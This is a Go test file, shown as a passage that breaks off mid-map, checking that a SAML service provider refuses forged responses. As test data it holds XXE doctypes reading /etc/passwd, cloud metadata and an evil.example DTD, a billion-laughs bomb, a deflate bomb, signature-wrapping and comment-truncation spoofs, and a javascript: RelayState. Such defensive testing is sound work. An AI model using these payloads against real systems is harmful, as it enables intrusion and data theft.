package saml

import (
	"bytes"
	"compress/flate"
	"context"
	"crypto/rsa"
	"crypto/x509"
	"encoding/base64"
	"errors"
	"fmt"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/beevik/etree"

	"github.com/gatehouse-api/gatehouse/idp/sso"
)

func who() sso.Identity { return sso.Identity{} }

// raw is a response of bytes that no tree would write.
func raw(text string) string { return base64.StdEncoding.EncodeToString([]byte(text)) }

// written is the text of a good response.
func written(t testing.TB, r response) string {
	t.Helper()
	b, err := base64.StdEncoding.DecodeString(r.encoded(t))
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestAResponseForAnotherAudienceIsRefused(t *testing.T) {
	refused(t, serviceProvider(t), response{Audience: "https://other.example/sp"}.encoded(t), ReasonAudience)
	refused(t, serviceProvider(t), response{Audience: ourID + "/"}.encoded(t), ReasonAudience)
	refused(t, serviceProvider(t), response{Audience: strings.ToUpper(ourID)}.encoded(t), ReasonAudience)
}

func TestAResponseForNobodyInParticularIsRefused(t *testing.T) {
	refused(t, serviceProvider(t), response{WithoutAudience: true}.encoded(t), ReasonAudience)
}

func TestEveryRestrictionOfTheAudienceNamesUs(t *testing.T) {
	r := response{before: func(_, a *etree.Element) {
		a.SelectElement("Conditions").AddChild(element(t, `<AudienceRestriction xmlns="`+nsAssertion+`"><Audience>https://other.example/sp</Audience></AudienceRestriction>`))
	}}
	refused(t, serviceProvider(t), r.encoded(t), ReasonAudience)
}

func TestAConditionThatIsNotKnownHoldsForNobody(t *testing.T) {
	r := response{before: func(_, a *etree.Element) {
		a.SelectElement("Conditions").AddChild(element(t, `<Condition xmlns="`+nsAssertion+`"/>`))
	}}
	refused(t, serviceProvider(t), r.encoded(t), ReasonShape)
}

func TestAResponseForAnotherDestinationIsRefused(t *testing.T) {
	refused(t, serviceProvider(t), response{Destination: "https://other.example/acs"}.encoded(t), ReasonRecipient)
	refused(t, serviceProvider(t), response{Destination: ourACS + "?x=1"}.encoded(t), ReasonRecipient)
}

func TestAResponseWithoutADestinationIsRefused(t *testing.T) {
	r := response{before: func(root, _ *etree.Element) { root.RemoveAttr("Destination") }}
	refused(t, serviceProvider(t), r.encoded(t), ReasonRecipient)
}

func TestAnAssertionForAnotherRecipientIsRefused(t *testing.T) {
	refused(t, serviceProvider(t), response{Recipient: "https://other.example/acs"}.encoded(t), ReasonRecipient)
	refused(t, serviceProvider(t), response{Recipient: ourACS + "/"}.encoded(t), ReasonRecipient)
}

func TestTheAnswerToAnotherRequestIsRefused(t *testing.T) {
	refused(t, serviceProvider(t), response{InResponseTo: "_request-2", ConfirmationInResponseTo: "_request-2"}.encoded(t), ReasonRequest)
}

func TestAResponseAroundTheAnswerToAnotherRequestIsRefused(t *testing.T) {
	refused(t, serviceProvider(t), response{ConfirmationInResponseTo: "_request-2"}.encoded(t), ReasonRequest)
	refused(t, serviceProvider(t), response{InResponseTo: "_request-2"}.encoded(t), ReasonRequest)
}

func TestASignInThatBeginsAtTheIdentityProviderIsRefused(t *testing.T) {
	refused(t, serviceProvider(t), response{Unsolicited: true}.encoded(t), ReasonRequest)
	// There was no request, and the handle of none is not a request's.
	_, err := serviceProvider(t).Finish(context.Background(), sso.Answer{At: at(), Params: url.Values{"SAMLResponse": {response{Unsolicited: true}.encoded(t)}}})
	refusedFor(t, who(), err, ReasonMalformed)
}

func TestAResponseOfAnotherIssuerIsRefused(t *testing.T) {
	refused(t, serviceProvider(t), response{Issuer: "https://evil.example/"}.encoded(t), ReasonIssuer)
	refused(t, serviceProvider(t), response{AssertionIssuer: "https://evil.example/"}.encoded(t), ReasonIssuer)
}

func TestAnAssertionIsUsedOnce(t *testing.T) {
	s := serviceProvider(t)
	encoded := response{}.encoded(t)
	accepted(t, s, encoded)
	refused(t, s, encoded, ReasonReplay)
	// Nor in a response of another id: it is the assertion that counts.
	refused(t, s, response{ID: "_response-2"}.encoded(t), ReasonReplay)
	accepted(t, s, response{AssertionID: "_assertion-2"}.encoded(t))
}

func TestOfManyWhoBringOneAssertionOneIsSignedIn(t *testing.T) {
	s := serviceProvider(t)
	encoded := response{}.encoded(t)
	var in atomic.Int32
	var all sync.WaitGroup
	for range 20 {
		all.Go(func() {
			switch _, err := finish(s, encoded); {
			case err == nil:
				in.Add(1)
			case !errors.Is(err, sso.ErrAnswer):
				t.Error(err)
			}
		})
	}
	all.Wait()
	if in.Load() != 1 {
		t.Fatalf("%d are signed in", in.Load())
	}
}

func TestAnAssertionIsRememberedForAsLongAsItWouldBeTaken(t *testing.T) {
	o := &once{}
	s := serviceProvider(t, func(p *Options) { p.Once = o })
	accepted(t, s, response{Until: moments(time.Hour)}.encoded(t))
	if o.space != "saml.assertion" || o.ttl != time.Hour+Skew {
		t.Fatalf("%s for %s", o.space, o.ttl)
	}
}

func TestNobodyIsSignedInWhenTheStoreDoesNotAnswer(t *testing.T) {
	broken := errors.New("the store is on fire")
	s := serviceProvider(t, func(p *Options) { p.Once = &once{err: broken} })
	got, err := finish(s, response{}.encoded(t))
	if !errors.Is(err, broken) || errors.Is(err, sso.ErrAnswer) || got.Subject != "" {
		t.Fatalf("%+v, %v", got, err)
	}
}

// once notes what it is asked.
type once struct {
	space string
	ttl   time.Duration
	err   error
}

func (o *once) First(_ context.Context, _ time.Time, space, _ string, ttl time.Duration) (bool, error) {
	o.space, o.ttl = space, ttl
	return true, o.err
}

func (o *once) Since() time.Time { return time.Time{} }

func TestAnExpiredResponseIsRefused(t *testing.T) {
	refused(t, serviceProvider(t), response{Until: moments(-60 * time.Second)}.encoded(t), ReasonTime)
	refused(t, serviceProvider(t), response{ConfirmedUntil: moments(-60 * time.Second)}.encoded(t), ReasonTime)
}

func TestAResponseThatHoldsLaterIsRefused(t *testing.T) {
	refused(t, serviceProvider(t), response{From: moments(61 * time.Second)}.encoded(t), ReasonTime)
	refused(t, serviceProvider(t), response{Issued: moments(61 * time.Second)}.encoded(t), ReasonTime)
	refused(t, serviceProvider(t), response{Proven: moments(61 * time.Second)}.encoded(t), ReasonTime)
	later := response{before: func(_, a *etree.Element) {
		a.FindElement("./Subject/SubjectConfirmation/SubjectConfirmationData").CreateAttr("NotBefore", moments(61*time.Second))
	}}
	refused(t, serviceProvider(t), later.encoded(t), ReasonTime)
}

func TestAResponseWithoutAnEndIsRefused(t *testing.T) {
	refused(t, serviceProvider(t), response{WithoutConfirmedUntil: true}.encoded(t), ReasonTime)
	refused(t, serviceProvider(t), response{ConfirmedUntil: moments(24*time.Hour + time.Second)}.encoded(t), ReasonTime)
}

func TestASessionThatEndedAtTheIdentityProviderIsNoneHere(t *testing.T) {
	refused(t, serviceProvider(t), response{SessionUntil: moments(0)}.encoded(t), ReasonTime)
}

func TestAProofThatIsOlderThanTheRequestForANewOneIsRefused(t *testing.T) {
	fresh := func(r response) error {
		_, err := serviceProvider(t).Finish(context.Background(), sso.Answer{
			At: at(), Began: at().Add(-time.Minute), Fresh: true, Kept: []byte(asked), Params: url.Values{"SAMLResponse": {r.encoded(t)}},
		})
		return err
	}
	refusedFor(t, who(), fresh(response{Proven: moments(-121 * time.Second)}), ReasonTime)
	if err := fresh(response{Proven: moments(-30 * time.Second)}); err != nil {
		t.Fatal(err)
	}
}

func TestAnUnsignedAssertionInASignedResponseIsRefused(t *testing.T) {
	refused(t, serviceProvider(t), response{assertionSignature: &signing{none: true}, responseSignature: &signing{}}.encoded(t), ReasonUnsigned)
}

func TestAnUnsignedResponseIsRefused(t *testing.T) {
	refused(t, serviceProvider(t), response{assertionSignature: &signing{none: true}}.encoded(t), ReasonUnsigned)
}

func TestASignatureThatWasTakenAwayIsMissed(t *testing.T) {
	root := response{}.tree(t)
	a := root.SelectElement("Assertion")
	a.RemoveChild(a.SelectElement("Signature"))
	refused(t, serviceProvider(t), encodeTree(t, root), ReasonUnsigned)
}

func TestAResponseThatAnotherKeySignedIsRefused(t *testing.T) {
	evil := foreignPair()
	refused(t, serviceProvider(t), response{assertionSignature: &signing{pair: &evil, withoutKeyInfo: true}}.encoded(t), ReasonSignature)
	// With the certificate of the right one beside it.
	right := theirPair()
	refused(t, serviceProvider(t), response{assertionSignature: &signing{pair: &evil, shown: &right}}.encoded(t), ReasonSignature)
}

func TestTheCertificateThatASignatureBringsAlongIsNotTrusted(t *testing.T) {
	evil := foreignPair()
	refused(t, serviceProvider(t), response{assertionSignature: &signing{pair: &evil}}.encoded(t), ReasonSignature)
	right := theirPair()
	both := `<ds:KeyInfo><ds:X509Data><ds:X509Certificate>` + base64.StdEncoding.EncodeToString(right.cert.Raw) + `</ds:X509Certificate></ds:X509Data></ds:KeyInfo>`
	refused(t, serviceProvider(t), response{assertionSignature: &signing{pair: &evil, extra: both}}.encoded(t), ReasonShape)
}

func TestAWrongSignatureOfTheResponseIsRefusedThoughTheAssertionIsSigned(t *testing.T) {
	evil := foreignPair()
	refused(t, serviceProvider(t), response{responseSignature: &signing{pair: &evil}}.encoded(t), ReasonSignature)
	root := response{responseSignature: &signing{}}.tree(t)
	root.SelectElement("Status").CreateAttr("x", "y")
	refused(t, serviceProvider(t), encodeTree(t, root), ReasonSignature)
}

func TestWhatWasChangedAfterItWasSignedIsRefused(t *testing.T) {
	for what, change := range map[string]func(a *etree.Element){
		"name": func(a *etree.Element) { a.FindElement("./Subject/NameID").SetText("admin") },
		"attribute": func(a *etree.Element) {
			a.FindElement("./AttributeStatement/Attribute/AttributeValue").SetText("admins")
		},
		"until":     func(a *etree.Element) { a.SelectElement("Conditions").CreateAttr("NotOnOrAfter", moments(time.Hour)) },
		"proven":    func(a *etree.Element) { a.SelectElement("AuthnStatement").CreateAttr("AuthnInstant", moments(0)) },
		"one space": func(a *etree.Element) { a.SelectElement("Conditions").AddChild(etree.NewText(" ")) },
		"its value": func(a *etree.Element) { a.FindElement("./Signature/SignatureValue").SetText("AAAA") },
		"digest":    func(a *etree.Element) { a.FindElement("./Signature/SignedInfo/Reference/DigestValue").SetText("AAAA") },
	} {
		t.Run(what, func(t *testing.T) {
			root := response{Attributes: azureAttributes}.tree(t)
			change(root.SelectElement("Assertion"))
			refused(t, serviceProvider(t), encodeTree(t, root), ReasonSignature)
		})
	}
}

func TestACertificateHoldsForItsTimeOnly(t *testing.T) {
	s := serviceProvider(t)
	encoded := response{}.encoded(t)
	_, _, err := s.judge(encoded, asked, at().Add(400*24*time.Hour))
	refusedFor(t, who(), err, ReasonSignature)
}

func TestSHA1IsRefused(t *testing.T) {
	refused(t, serviceProvider(t), response{assertionSignature: &signing{method: "http://www.w3.org/2000/09/xmldsig#rsa-sha1"}}.encoded(t), ReasonAlgorithm)
	refused(t, serviceProvider(t), response{assertionSignature: &signing{digest: "http://www.w3.org/2000/09/xmldsig#sha1"}}.encoded(t), ReasonAlgorithm)
	refused(t, serviceProvider(t), response{responseSignature: &signing{method: "http://www.w3.org/2000/09/xmldsig#rsa-sha1"}}.encoded(t), ReasonAlgorithm)
}

func TestHMACIsRefused(t *testing.T) {
	for _, m := range []string{"http://www.w3.org/2000/09/xmldsig#hmac-sha1", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"} {
		refused(t, serviceProvider(t), response{assertionSignature: &signing{method: m, hmac: true}}.encoded(t), ReasonAlgorithm)
	}
	truncated := response{assertionSignature: &signing{hmac: true}}.tree(t)
	m := truncated.FindElement("./Assertion/Signature/SignedInfo/SignatureMethod")
	m.AddChild(element(t, `<ds:HMACOutputLength xmlns:ds="http://www.w3.org/2000/09/xmldsig#">1</ds:HMACOutputLength>`))
	refused(t, serviceProvider(t), encodeTree(t, truncated), ReasonAlgorithm)
}

func TestOtherAlgorithmsAreRefused(t *testing.T) {
	for _, s := range []signing{
		{method: ""}, {method: "none"}, {method: "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256"}, {method: "http://www.w3.org/2001/04/xmldsig-more#rsa-md5"},
		{digest: "http://www.w3.org/2001/04/xmldsig-more#md5"}, {canonicalization: "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"},
		{canonicalization: exclusive + "WithComments"},
	} {
		if s == (signing{}) {
			continue
		}
		refused(t, serviceProvider(t), response{assertionSignature: &s}.encoded(t), ReasonAlgorithm)
	}
}

func TestTransformsThatNobodyNeedsAreRefused(t *testing.T) {
	const enveloped = `<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>`
	const c14n = `<ds:Transform Algorithm="` + exclusive + `"/>`
	for what, transforms := range map[string]string{
		"XSLT":           enveloped + `<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/></ds:Transform>`,
		"XPath":          `<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>not(ancestor-or-self::ds:Signature)</ds:XPath></ds:Transform>` + c14n,
		"XPath filter":   `<ds:Transform Algorithm="http://www.w3.org/2002/06/xmldsig-filter2"/>` + c14n,
		"base64":         enveloped + `<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#base64"/>`,
		"with comments":  enveloped + `<ds:Transform Algorithm="` + exclusive + `WithComments"/>`,
		"inclusive":      enveloped + `<ds:Transform Algorithm="http://www.w3.org/TR/2001/REC-xml-c14n-20010315"/>`,
		"with a child":   `<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"><ds:XPath>x</ds:XPath></ds:Transform>` + c14n,
		"too many":       enveloped + c14n + c14n,
		"one":            enveloped,
		"wrong order":    c14n + enveloped,
		"enveloped both": enveloped + enveloped,
	} {
		t.Run(what, func(t *testing.T) {
			refused(t, serviceProvider(t), response{assertionSignature: &signing{transforms: transforms}}.encoded(t), ReasonAlgorithm)
		})
	}
}

func TestAnEmptyReferenceIsRefused(t *testing.T) {
	refused(t, serviceProvider(t), response{assertionSignature: &signing{emptyURI: true}}.encoded(t), ReasonShape)
}

func TestASignatureOverAnotherElementIsRefused(t *testing.T) {
	for _, uri := range []string{"#_response-1", "#_nobody", "#xpointer(id('_assertion-1'))", "x_assertion-1", "https://evil.example/#_assertion-1"} {
		refused(t, serviceProvider(t), response{assertionSignature: &signing{uri: uri}}.encoded(t), ReasonShape)
	}
}

func TestTwoReferencesAreRefused(t *testing.T) {
	root := response{}.tree(t)
	info := root.FindElement("./Assertion/Signature/SignedInfo")
	info.AddChild(info.SelectElement("Reference").Copy())
	refused(t, serviceProvider(t), encodeTree(t, root), ReasonShape)
}

func TestOneIdForTwoElementsIsRefused(t *testing.T) {
	refused(t, serviceProvider(t), response{ID: "_assertion-1"}.encoded(t), ReasonShape)
	root := response{}.tree(t)
	root.SelectElement("Status").CreateAttr("Id", "_assertion-1")
	refused(t, serviceProvider(t), encodeTree(t, root), ReasonShape)
}

func TestOneAttributeTwiceIsRefused(t *testing.T) {
	good := written(t, response{})
	for what, change := range map[string][2]string{
		"the same":          {` ID="_assertion-1"`, ` ID="_assertion-1" ID="_evil"`},
		"with a prefix":     {` ID="_assertion-1"`, ` xmlns:x="urn:x" x:ID="_evil" ID="_assertion-1"`},
		"as a declaration":  {` ID="_assertion-1"`, ` xmlns:ID="_evil" ID="_assertion-1"`},
		"of the envelope":   {` Destination="`, ` xmlns:x="urn:x" x:Destination="https://evil.example/" Destination="`},
		"the name's format": {` Format="`, ` Format="x" Format="`},
	} {
		t.Run(what, func(t *testing.T) {
			refused(t, serviceProvider(t), raw(strings.Replace(good, change[0], change[1], 1)), ReasonMalformed)
		})
	}
}

func TestAPrefixedIdIsNoId(t *testing.T) {
	good := written(t, response{})
	refused(t, serviceProvider(t), raw(strings.Replace(good, ` ID="_assertion-1"`, ` xmlns:x="urn:x" x:ID="_assertion-1"`, 1)), ReasonShape)
}

func TestExternalEntitiesAreRefusedBeforeAnythingIsParsed(t *testing.T) { // XXE
	for _, doctype := range []string{
		`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>`,
		`<!DOCTYPE r SYSTEM "http://169.254.169.254/latest/meta-data/">`,
		`<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>`,
		`<!DOCTYPE r>`,
		"<!doctype r>",
		"<!\tDOCTYPE r>",
	} {
		refused(t, serviceProvider(t), raw(doctype+strings.Replace(written(t, response{}), "u-4711", "&x;", 1)), ReasonMalformed, ReasonMarkup)
		refused(t, serviceProvider(t), raw(`<?xml version="1.0" encoding="UTF-8"?>`+"\n"+doctype+written(t, response{})), ReasonMarkup)
	}
}

func TestABillionLaughsAreRefused(t *testing.T) {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">`)
	for i := '1'; i <= '9'; i++ {
		b.WriteString(`<!ENTITY lol` + string(i) + ` "` + strings.Repeat(`&lol;`, 10) + `">`)
	}
	b.WriteString(`]>` + strings.Replace(written(t, response{}), "u-4711", "&lol9;", 1))
	began := time.Now()
	refused(t, serviceProvider(t), raw(b.String()), ReasonMarkup)
	if d := time.Since(began); d > time.Second {
		t.Fatalf("it took %s", d)
	}
}

func TestAnEntityWithoutADeclarationIsRefused(t *testing.T) {
	refused(t, serviceProvider(t), raw(strings.Replace(written(t, response{}), "u-4711", "&admin;", 1)), ReasonMalformed)
}

func TestADeflateBombIsRefusedWithoutUnpacking(t *testing.T) { // CVE-2023-26483
	var b bytes.Buffer
	w, err := flate.NewWriter(&b, flate.BestCompression)
	if err != nil {
		t.Fatal(err)
	}
	zeroes := bytes.Repeat([]byte(" "), 1<<20)
	for range 100 {
		if _, err := w.Write(zeroes); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if b.Len() > MostBytes {
		t.Fatalf("%d bytes: this is no bomb", b.Len())
	}
	refused(t, serviceProvider(t), base64.StdEncoding.EncodeToString(b.Bytes()), ReasonMalformed)
}

func TestACompressedResponseIsRefusedThoughItIsGood(t *testing.T) {
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, flate.DefaultCompression)
	_, _ = w.Write([]byte(written(t, response{})))
	_ = w.Close()
	refused(t, serviceProvider(t), base64.StdEncoding.EncodeToString(b.Bytes()), ReasonMalformed)
}

func TestAResponseOfTenMegabytesIsRefused(t *testing.T) {
	huge := response{Attributes: `<AttributeStatement><Attribute Name="x"><AttributeValue>` + strings.Repeat("x", 10<<20) + `</AttributeValue></Attribute></AttributeStatement>`}
	refused(t, serviceProvider(t), huge.encoded(t), ReasonSize)
	refused(t, serviceProvider(t), raw(strings.Repeat("x", MostBytes+1)), ReasonSize)
}

func TestTooManyElementsAndTooDeepOnesAreRefused(t *testing.T) {
	good := written(t, response{})
	for _, more := range []string{strings.Repeat("<x/>", mostElements), strings.Repeat("<x>", 40) + strings.Repeat("</x>", 40), strings.Repeat("<x>", 30000) + strings.Repeat("</x>", 30000)} {
		refused(t, serviceProvider(t), raw(strings.Replace(good, "</Response>", more+"</Response>", 1)), ReasonSize, ReasonMalformed)
	}
}

func TestAsManyElementsAsArePermittedAreVerified(t *testing.T) {
	values := func(n int) response {
		return response{P: "samlp:", responseSignature: &signing{}, Attributes: `<AttributeStatement><Attribute Name="g">` + strings.Repeat(
			`<AttributeValue xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="xs:string">group</AttributeValue>`, n) + `</Attribute></AttributeStatement>`}
	}
	all := map[string]int{}
	count(values(0).tree(t), all)
	few := 0
	for _, n := range all {
		few += n
	}
	who := accepted(t, serviceProvider(t), values(mostElements-few).encoded(t))
	if n := len(who.Attributes["g"]); n != mostElements-few || n < 400 {
		t.Fatalf("%d values", n)
	}
	refused(t, serviceProvider(t), values(mostElements-few+1).encoded(t), ReasonSize)
}

func TestManyPrefixesAndAttributesAreRefusedBeforeTheyCostAnything(t *testing.T) {
	good := written(t, response{})
	var prefixes, wide strings.Builder
	for i := range 33 {
		fmt.Fprintf(&prefixes, `<x xmlns:p%d="urn:x"/>`, i)
	}
	for i := range 5000 {
		fmt.Fprintf(&wide, ` xmlns:p%d="urn:x"`, i)
	}
	began := time.Now()
	refused(t, serviceProvider(t), raw(strings.Replace(good, "</Response>", prefixes.String()+"</Response>", 1)), ReasonSize)
	refused(t, serviceProvider(t), raw(strings.Replace(good, "<Assertion ", "<Assertion "+wide.String()+" ", 1)), ReasonSize)
	if d := time.Since(began); d > 2*time.Second {
		t.Fatalf("it took %s", d)
	}
}

func TestASignatureAndItsPartsElsewhereAreRefused(t *testing.T) { // CVE-2024-45409
	for _, part := range []string{"", "/SignedInfo", "/SignedInfo/Reference", "/SignedInfo/Reference/DigestValue", "/SignatureValue"} {
		t.Run("Signature"+strings.ReplaceAll(part, "/", " "), func(t *testing.T) {
			root := response{}.tree(t)
			smuggled := root.FindElement("./Assertion/Signature" + part).Copy()
			if smuggled.SelectAttr("xmlns:ds") == nil {
				smuggled.CreateAttr("xmlns:ds", nsSignature)
			}
			detail := element(t, `<StatusDetail xmlns="`+nsProtocol+`"/>`)
			detail.AddChild(smuggled)
			root.SelectElement("Status").AddChild(detail)
			refused(t, serviceProvider(t), encodeTree(t, root), ReasonShape)
		})
	}
}

func TestEachPartOfASignatureIsThereOnce(t *testing.T) {
	for _, part := range []string{
		"SignedInfo", "SignatureValue", "SignedInfo/CanonicalizationMethod", "SignedInfo/SignatureMethod", "SignedInfo/Reference",
		"SignedInfo/Reference/Transforms", "SignedInfo/Reference/DigestMethod", "SignedInfo/Reference/DigestValue", "KeyInfo",
	} {
		t.Run(strings.ReplaceAll(part, "/", " "), func(t *testing.T) {
			root := response{}.tree(t)
			e := root.FindElement("./Assertion/Signature/" + part)
			e.Parent().AddChild(e.Copy())
			refused(t, serviceProvider(t), encodeTree(t, root), ReasonShape)
			if part == "KeyInfo" {
				return // which may be missing
			}
			root = response{}.tree(t)
			e = root.FindElement("./Assertion/Signature/" + part)
			e.Parent().RemoveChild(e)
			refused(t, serviceProvider(t), encodeTree(t, root), ReasonShape)
		})
	}
}

func TestASecondSignedInfoIsRefused(t *testing.T) { // CVE-2025-29774
	root := response{}.tree(t)
	s := root.FindElement("./Assertion/Signature")
	s.InsertChildAt(0, s.SelectElement("SignedInfo").Copy())
	refused(t, serviceProvider(t), encodeTree(t, root), ReasonShape)
}

func TestACommentInADigestIsRefused(t *testing.T) { // CVE-2025-29775
	good := written(t, response{})
	refused(t, serviceProvider(t), raw(strings.Replace(good, "<ds:DigestValue>", "<ds:DigestValue><!--x-->", 1)), ReasonMarkup)
}

func TestACommentInANameDoesNotCutIt(t *testing.T) {
	// The identity provider has signed "admin<!---->.evil.example": who reads up to the
	// comment reads the name of somebody else. The signature holds, since
	// canonicalization takes comments out.
	for _, name := range []string{"admin<!---->.evil.example", "<!-- x -->admin", "admin<![CDATA[.evil.example]]>", "admin<?x y?>.evil.example"} {
		r := response{Name: "admin.evil.example"}
		signed := written(t, r)
		accepted(t, serviceProvider(t), raw(signed))
		refused(t, serviceProvider(t), raw(strings.Replace(signed, "admin.evil.example", name, 1)), ReasonMarkup)
	}
}

func TestACommentInAnAttributeDoesNotCutIt(t *testing.T) {
	signed := written(t, response{P: "samlp:", Attributes: azureAttributes})
	accepted(t, serviceProvider(t), raw(signed))
	refused(t, serviceProvider(t), raw(strings.Replace(signed, "ann@acme.example", "ann@acme.example<!---->.evil.example", 1)), ReasonMarkup)
}

func TestTextInSeveralPiecesIsReadWhole(t *testing.T) {
	// Should a comment ever get this far, it still cuts nothing.
	e := element(t, `<NameID xmlns="urn:x">admin</NameID>`)
	e.AddChild(etree.NewText(".evil"))
	if got, err := text(e); err != nil || got != "admin.evil" {
		t.Fatalf("%q, %v", got, err)
	}
	e.AddChild(etree.NewComment("x"))
	if got, err := text(e); err == nil {
		t.Fatalf("%q", got)
	}
}

func TestALogoutRequestIsRefusedSignedOrNot(t *testing.T) { // GHSA-pcgw-qcv5-h8ch
	text := `<samlp:LogoutRequest xmlns:samlp="` + nsProtocol + `" xmlns:saml="` + nsAssertion + `" ID="_logout" Version="2.0" IssueInstant="` + moments(0) + `" Destination="` + ourACS + `">` +
		`<saml:Issuer>` + theirID + `</saml:Issuer><saml:NameID>u-4711</saml:NameID></samlp:LogoutRequest>`
	unsigned := element(t, text)
	refused(t, serviceProvider(t), encodeTree(t, unsigned), ReasonLogout)
	signed := element(t, text)
	(&signing{}).apply(t, signed)
	refused(t, serviceProvider(t), encodeTree(t, signed), ReasonLogout)
	_, err := serviceProvider(t).Finish(context.Background(), sso.Answer{At: at(), Kept: []byte(asked), Params: url.Values{"SAMLRequest": {encodeTree(t, signed)}}})
	refusedFor(t, who(), err, ReasonLogout)
	refused(t, serviceProvider(t), raw(strings.NewReplacer("LogoutRequest", "LogoutResponse").Replace(text)), ReasonLogout)
}

func TestEncryptedAssertionsAreRefused(t *testing.T) {
	r := response{before: func(root, a *etree.Element) {
		root.AddChild(element(t, `<EncryptedAssertion xmlns="`+nsAssertion+`"><x:EncryptedData xmlns:x="http://www.w3.org/2001/04/xmlenc#"/></EncryptedAssertion>`))
	}}
	refused(t, serviceProvider(t), r.encoded(t), ReasonEncrypted)
}

func TestAnAnswerThatItDidNotWorkIsSaidToBeOne(t *testing.T) {
	r := response{Status: "urn:oasis:names:tc:SAML:2.0:status:Responder", before: func(root, a *etree.Element) { root.RemoveChild(a) }, assertionSignature: &signing{none: true}}
	_, err := finish(serviceProvider(t), r.encoded(t))
	refusedFor(t, who(), err, ReasonStatus)
	if !errors.Is(err, sso.ErrDeclined) || !strings.Contains(err.Error(), "status:Responder") {
		t.Fatal(err)
	}
	// A failure with an assertion is one all the same.
	refused(t, serviceProvider(t), response{Status: "urn:oasis:names:tc:SAML:2.0:status:Requester"}.encoded(t), ReasonStatus)
	refused(t, serviceProvider(t), response{before: func(root, a *etree.Element) { root.RemoveChild(a) }, assertionSignature: &signing{none: true}}.encoded(t), ReasonShape)
}

func TestRelayStateIsAHandleOfOursAndNeverAnAddress(t *testing.T) {
	s := serviceProvider(t)
	for _, state := range []string{"https://evil.example/", "//evil.example", "/account/", "javascript:alert(1)", "", strings.Repeat("a", 44)} {
		if h := s.Handle(url.Values{"RelayState": {state}}); h != "" {
			t.Errorf("%q is a handle: %q", state, h)
		}
	}
	ours := strings.Repeat("a", sso.HandleLength)
	if h := s.Handle(url.Values{"RelayState": {ours}}); h != ours {
		t.Errorf("%q", h)
	}
	if h := s.Handle(url.Values{"RelayState": {ours, ours}}); h != "" {
		t.Errorf("two are one: %q", h)
	}
}

func TestNamesByWhichNobodyIsRecognisedAreRefused(t *testing.T) {
	for what, r := range map[string]response{
		"transient":          {NameFormat: string(transient)},
		"another format":     {NameFormat: string(Email)},
		"no name":            {WithoutName: true},
		"a name of spaces":   {Name: "  "},
		"a space at the end": {Name: "u-4711 "},
		"a line break":       {Name: "u-4711&#10;x"},
		"invisible":          {Name: "u-4711\u200b"},
		"right to left":      {Name: "u-\u202e4711"},
		"too long":           {Name: strings.Repeat("ž", 257)},
		"for somebody else":  {NameQualifiers: ` SPNameQualifier="https://other.example/sp"`},
		"of somebody else":   {NameQualifiers: ` NameQualifier="https://evil.example/"`},
	} {
		t.Run(what, func(t *testing.T) { refused(t, serviceProvider(t), r.encoded(t), ReasonName) })
	}
}

func TestATransientNameIsRefusedWhateverIsAskedFor(t *testing.T) {
	for _, format := range []NameIDFormat{Persistent, Email, Unspecified} {
		refused(t, serviceProvider(t, func(o *Options) { o.NameID = format }), response{NameFormat: string(transient)}.encoded(t), ReasonName)
	}
}

func TestWhatBelongsIntoAnAssertionOnceIsThereOnce(t *testing.T) {
	for _, tag := range []string{"Issuer", "Subject", "Conditions", "AuthnStatement", "AuthnStatement/AuthnContext", "AuthnStatement/AuthnContext/AuthnContextClassRef", "Subject/NameID", "Subject/SubjectConfirmation/SubjectConfirmationData"} {
		t.Run(strings.ReplaceAll(tag, "/", " "), func(t *testing.T) {
			twice := response{before: func(_, a *etree.Element) {
				e := a.FindElement("./" + tag)
				e.Parent().AddChild(e.Copy())
			}}
			refused(t, serviceProvider(t), twice.encoded(t), ReasonShape)
			if strings.HasSuffix(tag, "ClassRef") || strings.HasSuffix(tag, "NameID") || tag == "Issuer" {
				return // which may be missing, or is where the signature goes
			}
			never := response{before: func(_, a *etree.Element) {
				e := a.FindElement("./" + tag)
				e.Parent().RemoveChild(e)
			}}
			refused(t, serviceProvider(t), never.encoded(t), ReasonShape)
		})
	}
	issuer := response{before: func(_, a *etree.Element) {
		a.SelectElement("Issuer").AddChild(element(t, `<x xmlns="`+nsAssertion+`"/>`))
	}}
	refused(t, serviceProvider(t), issuer.encoded(t), ReasonShape)
}

func TestWhatIsNoResponseIsRefused(t *testing.T) {
	good := written(t, response{P: "samlp:"})
	for what, text := range map[string]string{
		"an assertion alone":          good[strings.Index(good, "<Assertion") : strings.Index(good, "</Assertion>")+len("</Assertion>")],
		"of another namespace":        strings.ReplaceAll(good, nsProtocol, "urn:x"),
		"of another name":             strings.NewReplacer("<samlp:Response", "<samlp:Answer", "</samlp:Response", "</samlp:Answer").Replace(good),
		"in an ArtifactResponse":      `<a:ArtifactResponse xmlns:a="` + nsProtocol + `">` + good + `</a:ArtifactResponse>`,
		"an AuthnRequest":             `<a:AuthnRequest xmlns:a="` + nsProtocol + `"/>`,
		"in an envelope of SOAP":      `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/">` + good + `</s:Envelope>`,
		"without an issuer":           strings.Replace(good, `<Issuer xmlns="`+nsAssertion+`">`+theirID+`</Issuer>`, "", 1),
		"without a status":            strings.Replace(good, `<samlp:Status><samlp:StatusCode Value="`+success+`"/></samlp:Status>`, "", 1),
